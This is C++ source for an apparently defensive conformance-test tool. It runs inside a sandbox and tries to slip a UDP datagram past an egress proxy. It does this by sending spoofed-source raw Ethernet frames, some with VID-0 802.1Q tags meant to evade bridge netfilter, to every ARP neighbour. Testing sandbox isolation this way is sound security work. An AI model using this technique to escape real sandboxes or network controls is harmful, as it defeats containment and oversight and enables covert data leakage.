// maf-sandbox-rawframe: the guest-side tool of EG-3 (docs/conformance.md). Run *inside* a
// sandbox, it tries to get a UDP datagram past an egress proxy below HTTP: through a raw
// AF_PACKET socket it sends, to every neighbour the guest's ARP table knows (the proxy, a
// gateway), an IPv4/UDP frame whose source is spoofed — once untagged and once
// priority-tagged (802.1Q, VID 0), which bridge netfilter does not inspect by default but a
// forwarding kernel routes as untagged. Nothing here reads an answer: the attack is one-way,
// so the host's listener, not this program, judges whether anything arrived.
//
// Usage: maf-sandbox-rawframe DST_IPV4 DST_PORT SPOOFED_SRC_IPV4 TOKEN
// Prints one line and exits: 0 "sent N frames via M neighbour(s)"; 3 "socket refused: ..."
// (no CAP_NET_RAW: the defence worked before any frame left); 4 "no neighbour"; 2 usage.
// Linked statically, so it runs in any Linux guest (busybox, distroless).
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <initializer_list>

namespace {

std::uint16_t checksum(const unsigned char* data, std::size_t len) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < len; i += 2) sum += static_cast<std::uint32_t>(data[i] << 8 | data[i + 1]);
  if (len & 1) sum += static_cast<std::uint32_t>(data[len - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

void put16(unsigned char* p, std::uint16_t v) {
  p[0] = static_cast<unsigned char>(v >> 8);
  p[1] = static_cast<unsigned char>(v & 0xff);
}

/// Ethernet header (optionally with a VID-0 802.1Q tag), IPv4, UDP, payload. Returns the length.
std::size_t build_frame(unsigned char* f, const unsigned char* dst_mac, const unsigned char* src_mac, bool tagged,
                        in_addr src, in_addr dst, std::uint16_t port, const char* payload) {
  std::size_t o = 0;
  std::memcpy(f, dst_mac, 6);
  std::memcpy(f + 6, src_mac, 6);
  o = 12;
  if (tagged) {
    put16(f + o, 0x8100);  // TPID
    put16(f + o + 2, 0x0000);  // PCP 0, DEI 0, VID 0: priority-tagged
    o += 4;
  }
  put16(f + o, 0x0800);
  o += 2;
  const std::size_t plen = std::strlen(payload);
  unsigned char* ip = f + o;
  std::memset(ip, 0, 20);
  ip[0] = 0x45;
  put16(ip + 2, static_cast<std::uint16_t>(20 + 8 + plen));
  put16(ip + 4, 0x4d41);
  ip[8] = 64;
  ip[9] = 17;  // UDP
  std::memcpy(ip + 12, &src, 4);
  std::memcpy(ip + 16, &dst, 4);
  put16(ip + 10, checksum(ip, 20));
  unsigned char* udp = ip + 20;
  put16(udp, 40000);
  put16(udp + 2, port);
  put16(udp + 4, static_cast<std::uint16_t>(8 + plen));
  put16(udp + 6, 0);  // no checksum: legal for IPv4, and nothing on the way rewrites it
  std::memcpy(udp + 8, payload, plen);
  return o + 20 + 8 + plen;
}

bool parse_mac(const char* text, unsigned char* mac) {
  unsigned v[6];
  if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return false;
  bool zero = true;
  for (int i = 0; i < 6; ++i) {
    mac[i] = static_cast<unsigned char>(v[i]);
    zero = zero && v[i] == 0;
  }
  return !zero;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr, "usage: %s DST_IPV4 DST_PORT SPOOFED_SRC_IPV4 TOKEN\n", argv[0]);
    return 2;
  }
  in_addr dst{}, src{};
  const long port = std::strtol(argv[2], nullptr, 10);
  if (::inet_pton(AF_INET, argv[1], &dst) != 1 || ::inet_pton(AF_INET, argv[3], &src) != 1 || port <= 0 ||
      port > 65535) {
    std::fprintf(stderr, "bad address or port\n");
    return 2;
  }
  const int fd = ::socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) {
    std::printf("socket refused: %s\n", std::strerror(errno));
    return 3;
  }
  std::FILE* arp = std::fopen("/proc/net/arp", "r");
  if (!arp) {
    std::printf("no neighbour: /proc/net/arp: %s\n", std::strerror(errno));
    return 4;
  }
  char line[512];
  int frames = 0, neighbours = 0;
  (void)std::fgets(line, sizeof line, arp);  // header
  while (std::fgets(line, sizeof line, arp)) {
    char ip[64], hw[64], mask[64], dev[IFNAMSIZ];
    unsigned type = 0, flags = 0;
    if (std::sscanf(line, "%63s 0x%x 0x%x %63s %63s %15s", ip, &type, &flags, hw, mask, dev) != 6) continue;
    unsigned char dst_mac[6], src_mac[6];
    if (!(flags & 0x2) || !parse_mac(hw, dst_mac)) continue;  // incomplete entry
    ifreq req{};
    std::memcpy(req.ifr_name, dev, std::strlen(dev) + 1);  // %15s: fits IFNAMSIZ
    if (::ioctl(fd, SIOCGIFINDEX, &req) != 0) continue;
    const int ifindex = req.ifr_ifindex;
    if (::ioctl(fd, SIOCGIFHWADDR, &req) != 0) continue;
    std::memcpy(src_mac, req.ifr_hwaddr.sa_data, 6);
    ++neighbours;
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    std::memcpy(to.sll_addr, dst_mac, 6);
    unsigned char frame[256];
    for (int round = 0; round < 3; ++round)
      for (bool tagged : {true, false}) {
        const std::size_t len = build_frame(frame, dst_mac, src_mac, tagged, src, dst,
                                            static_cast<std::uint16_t>(port), argv[4]);
        if (::sendto(fd, frame, len, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) == static_cast<ssize_t>(len))
          ++frames;
      }
  }
  std::fclose(arp);
  ::close(fd);
  if (neighbours == 0) {
    std::printf("no neighbour: the guest's ARP table lists no complete entry\n");
    return 4;
  }
  std::printf("sent %d frames via %d neighbour(s)\n", frames, neighbours);
  return 0;
}
